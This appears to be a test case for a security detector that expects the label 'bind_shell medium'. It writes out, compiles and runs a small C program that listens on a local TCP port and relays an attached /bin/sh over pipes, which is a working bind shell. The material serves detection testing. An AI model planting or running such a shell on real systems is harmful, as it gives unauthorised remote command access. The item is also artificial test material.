# about: a compiled server forks for its caller, and copies between the caller and a shell on pipes
# expect: bind_shell medium
# needs: python3 gcc
proven_caller 4535
cat >a.c <<'C'
#include <netinet/in.h>
#include <unistd.h>
int main(){int l=socket(AF_INET,SOCK_STREAM,0),o=1;setsockopt(l,SOL_SOCKET,SO_REUSEADDR,&o,4);struct sockaddr_in a={AF_INET,htons(4535)};a.sin_addr.s_addr=htonl(0x7f000001);
 bind(l,(void*)&a,sizeof a);listen(l,1);int c=accept(l,0,0),in[2],out[2],n;pipe(in);pipe(out);char b[4096];
 if(!fork()){dup2(in[0],0);dup2(out[1],1);dup2(out[1],2);close(in[1]);close(out[0]);execl("/bin/sh","sh",(char*)0);}
 close(in[0]);close(out[1]);if(!fork()){while((n=read(out[0],b,4096))>0)write(c,b,n);_exit(0);}while((n=read(c,b,4096))>0)write(in[1],b,n);}
C
gcc -w -o a a.c
timeout 7 ./a || true
answered
